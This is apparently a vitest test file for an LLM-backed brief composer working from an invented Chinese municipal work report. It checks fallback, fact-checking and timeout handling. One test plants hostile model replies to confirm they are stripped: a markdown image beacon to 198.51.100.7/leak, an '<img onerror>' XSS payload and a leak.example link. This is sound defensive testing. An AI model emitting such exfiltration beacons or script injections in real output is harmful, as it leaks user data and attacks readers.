import { Value } from 'typebox/value'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { BriefView } from '../../server/contract/briefs.ts'
import { MODEL_LIMITS } from '../../server/model/model-limits.ts'
import { createOpenAiChatModel } from '../../server/model/openai-chat-model.ts'
import { createModelBriefComposer } from '../../server/model-briefs/create-model-brief-composer.ts'
import { createReportApp } from '../support/report-app.ts'
import { createScriptedUpstream, type ScriptedUpstream, type UpstreamReply, type UpstreamRequest } from '../support/scripted-upstream.ts'

let upstream: ScriptedUpstream
let current: Awaited<ReturnType<typeof createReportApp>>
let unexpected: unknown[]
/** A busy machine is no fault of a model: only the case that means to wait in vain is given less. */
const PATIENT = { sectionMs: 40_000, totalMs: 60_000 }
beforeEach(async () => {
  upstream = await createScriptedUpstream()
  unexpected = []
  current = await openApp(PATIENT)
})
afterEach(async () => {
  expect(unexpected).toEqual([])
  await current.close()
  await upstream.close()
})

function openApp(limits: typeof PATIENT) {
  const modelLimits = { ...MODEL_LIMITS, firstByteMs: PATIENT.sectionMs, maxRetries: 0 }
  const model = createOpenAiChatModel({ model: 'scripted', baseUrl: upstream.baseUrl, apiKey: 'key' }, modelLimits)
  return createReportApp(REPORTS, (extractive) =>
    createModelBriefComposer({ extractive, model, onUnexpected: (error) => unexpected.push(error), limits }),
  )
}

/** Invented; more measures than figures that a table would take. */
const REPORTS: Readonly<Record<string, string>> = {
  '青禾市2031年政府工作报告.txt': `2031年青禾市政府工作报告

各位代表：

一、2030年工作回顾

（一）就业工作稳中有进。

过去的一年，建成零工市场6个，为务工人员就业提供服务。举办就业招聘会120场。帮扶就业困难人员实现就业1.2万人。落实就业补贴政策，发放高校毕业生就业补贴800万元。

二、2031年工作安排

（一）稳定和扩大就业。

今年，新建零工市场4个，方便群众就近就业。举办就业招聘会150场以上。实施青年就业见习计划，募集就业见习岗位3000个。完善就业服务体系，推动就业服务进社区。
`,
}
const REQUEST = '准备一份青禾市就业工作简报（2030年成绩、2031年目标）'

async function compose(more: object = {}): Promise<BriefView> {
  const response = await current.app.inject({
    method: 'POST',
    url: '/api/briefs',
    headers: { host: 'localhost' },
    payload: { request: REQUEST, ...more },
  })
  expect([response.statusCode, response.json().error?.message]).toEqual([200, undefined])
  return response.json()
}

/** The points of a section as the prompt shows them. */
function pointsOf({ prompt }: UpstreamRequest): { handle: string; text: string }[] {
  return [...prompt.matchAll(/^(\[E\d+\]) [^：]*：(.*)$/gm)].map(([, handle = '', text = '']) => ({ handle, text }))
}

function say(...lines: readonly string[]): UpstreamReply {
  return { kind: 'text', text: lines.join('\n'), pieceChars: 7 }
}

/** A section told right: backwards, the first two points in one sentence. */
function tellRight(request: UpstreamRequest): UpstreamReply {
  const [first, second, ...rest] = pointsOf(request)
  const joined = `${[first, second]
    .map((point) => point?.text.replaceAll('。', '，'))
    .join('')
    .replace(/，$/, '。')}${first?.handle}${second?.handle}`
  return say(...rest.map(({ handle, text }) => `${text}${handle}`).reverse(), joined)
}

const figuresOf = (brief: BriefView): string[] =>
  brief.sections.flatMap(({ statements }) => statements.flatMap(({ text }) => text.match(/[0-9.]+(?:万人|万元|个|场)/g) ?? [])).toSorted()
const statementsOf = (brief: BriefView) => brief.sections.flatMap(({ statements }) => statements)
const charsOf = (brief: BriefView): number => statementsOf(brief).reduce((sum, { text }) => sum + text.length, 0)

test('sections are told in the model’s order and words; tables, gaps, citations and figures stay', async () => {
  const plain = await compose({ mode: 'extractive' })
  expect(upstream.requests).toHaveLength(0)
  upstream.script = tellRight
  const brief = await compose()
  expect([...Value.Errors(BriefView, brief)]).toEqual([])
  expect(brief).toMatchObject({ mode: 'llm', model: 'scripted' })
  expect([brief.tables, brief.gaps, brief.conflicts, brief.citations]).toEqual([plain.tables, plain.gaps, plain.conflicts, plain.citations])
  expect(brief.sections.map(({ heading }) => heading)).toEqual(plain.sections.map(({ heading }) => heading))
  expect(figuresOf(brief)).toEqual(figuresOf(plain))
  expect(statementsOf(brief).every(({ verdict, citations }) => verdict === 'supported' && citations.length > 0)).toBe(true)
  const [first] = brief.sections
  expect(first?.statements.length).toBeGreaterThan(1)
  expect(first?.statements.at(-1)?.citations.length).toBe(2)
  expect(
    plain.sections[0]?.statements
      .map(({ text }) => text)
      .join('')
      .endsWith(first?.statements[0]?.text ?? '?'),
  ).toBe(true)
  expect(brief.markdown).toContain('[^')
  expect(upstream.requests.length).toBeGreaterThan(0)
})

describe('what does not stand up to the sources', () => {
  test('a changed figure is replaced by the original’s sentence, and said', async () => {
    const plain = await compose({ mode: 'extractive' })
    upstream.script = (request) => say(...pointsOf(request).map(({ handle, text }) => `${text.replace(/\d+(?:\.\d+)?(?=万|个|场)/, '77')}${handle}`))
    const brief = await compose()
    expect(brief.markdown).not.toContain('77')
    expect(figuresOf(brief)).toEqual(figuresOf(plain))
    const told = [...statementsOf(brief).map(({ withdrawn }) => withdrawn?.text ?? ''), ...(brief.notes ?? [])].join('\n')
    expect(told).toMatch(/77|没有通过核对/)
  })

  test('points that the model leaves out are told as they are; invented sentences are left out', async () => {
    const plain = await compose({ mode: 'extractive' })
    upstream.script = (request) => {
      const [first] = pointsOf(request)
      return say(
        `${first?.text}${first?.handle}`,
        '全市各项事业取得举世瞩目的伟大成就，群众满意度连续多年位居全国前列。[E1]',
        '另投资99亿元建设机场。[E9]',
        '就业形势很好',
      )
    }
    const brief = await compose()
    expect(figuresOf(brief)).toEqual(figuresOf(plain))
    expect(brief.markdown).not.toMatch(/举世瞩目|99亿元|机场/)
    expect(brief.notes?.join('')).toContain('不符')
  })

  test('addresses, tags and pictures never reach the brief', async () => {
    upstream.script = (request) => {
      const lines = pointsOf(request).map(({ handle, text }) => `${text}${handle}`)
      return say(
        ...lines,
        '![x](http://198.51.100.7/leak?d=4.2)[E1]',
        '<img src=x onerror=alert(1)>城镇新增就业4.2万人。[E1]',
        '详见 www.leak.example[E1]',
      )
    }
    const brief = await compose()
    const shown = JSON.stringify([brief.sections.map(({ statements }) => statements.map(({ text }) => text)), brief.markdown])
    expect(shown).not.toMatch(/198\.51|onerror|<img|leak/)
  })
})

describe('what goes wrong with the model', () => {
  const expectPlain = async (why: RegExp): Promise<BriefView> => {
    const plain = await compose({ mode: 'extractive' })
    const brief = await compose({ mode: 'llm' })
    expect(brief.sections).toEqual(plain.sections)
    expect(brief.mode).toBe('extractive')
    expect(brief.notes?.join('')).toMatch(why)
    return brief
  }

  test.each<[string, UpstreamReply, RegExp]>([
    ['refused', { kind: 'status', status: 401 }, /各节按原文摘句写成。语言模型服务不接受配置的密钥/],
    ['failing', { kind: 'status', status: 500 }, /一节没有用语言模型/],
    ['silent', { kind: 'text', text: '' }, /按原文摘句写成/],
    ['rambling', { kind: 'text', text: '很好。'.repeat(5_000), pieceChars: 3_000 }, /按原文摘句写成/],
    ['beside the point', { kind: 'text', text: '抱歉，我不能写。' }, /没有通过核对/],
  ])('%s: the originals’ sentences, with a note', async (_, reply, why) => {
    upstream.script = () => reply
    await expectPlain(why)
  })

  test.each([
    ['a section', { sectionMs: 600 }],
    ['the whole brief', { totalMs: 600 }],
  ])('hanging beyond the time of %s: the originals’ sentences, with a note', async (_, short) => {
    upstream.script = () => ({ kind: 'text', text: '慢', firstMs: 2 * PATIENT.totalMs })
    await current.close()
    current = await openApp({ ...PATIENT, ...short })
    const begun = performance.now()
    await expectPlain(/按原文摘句写成/)
    expect(performance.now() - begun).toBeLessThan(PATIENT.sectionMs / 2)
  })

  test('one section failing leaves the others', async () => {
    const plain = await compose({ mode: 'extractive' })
    upstream.script = (request, index) => (index === 0 ? { kind: 'status', status: 500 } : tellRight(request))
    const brief = await compose()
    expect(brief.mode).toBe('llm')
    expect(brief.notes).toHaveLength(1)
    expect(brief.sections.filter((section, i) => JSON.stringify(section) === JSON.stringify(plain.sections[i])).length).toBeGreaterThan(0)
    expect(figuresOf(brief)).toEqual(figuresOf(plain))
    expect(charsOf(brief)).toBeLessThan(2_500)
  })

  test('a client that leaves closes the connection', async () => {
    upstream.script = () => ({ kind: 'text', text: '慢', firstMs: 2 * PATIENT.totalMs })
    const leaving = new AbortController()
    const running = current.services.briefs.compose({ request: REQUEST, filters: {} }, leaving.signal).then(
      () => 'kept',
      (error: unknown) => error,
    )
    await vi.waitFor(() => expect(upstream.open).toBeGreaterThan(0), { timeout: 20_000 })
    const reason = new Error('left')
    leaving.abort(reason)
    expect(await running).toBe(reason)
    await vi.waitFor(() => expect(upstream.open).toBe(0), { timeout: 20_000 })
  })
})

test('without a model a brief that is asked of one says so', async () => {
  const plain = await createReportApp(REPORTS)
  const response = await plain.app.inject({
    method: 'POST',
    url: '/api/briefs',
    headers: { host: 'localhost' },
    payload: { request: REQUEST, mode: 'llm' },
  })
  expect(response.json().notes).toEqual(['没有可用的语言模型，这份简报按原文摘句写成。'])
  await plain.close()
})
